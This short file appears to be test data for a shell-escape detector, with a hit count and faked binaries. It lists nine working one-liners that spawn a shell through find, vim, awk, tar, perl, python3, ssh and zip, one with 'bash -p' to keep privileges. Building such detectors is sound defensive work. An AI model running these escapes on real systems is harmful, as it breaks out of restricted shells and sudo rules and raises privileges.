# SPDX-License-Identifier: Apache-2.0
# hits: 9
# fake: /usr/bin/vim.basic=vim /usr/bin/ssh /usr/bin/zip
find /etc/hostname -exec /bin/sh \; < /dev/null
find /etc/hostname -exec /bin/bash -p \; -quit < /dev/null
vim -c ':!/bin/sh' /etc/hostname
awk 'BEGIN {system("/bin/sh")}' < /dev/null
tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=/bin/sh < /dev/null
perl -e 'exec "/bin/sh";' < /dev/null
python3 -c 'import os; os.system("/bin/sh")' < /dev/null
ssh -o 'ProxyCommand=;sh 0<&2 1>&2' x
zip /tmp/z.zip /etc/hostname -T -TT 'sh #'
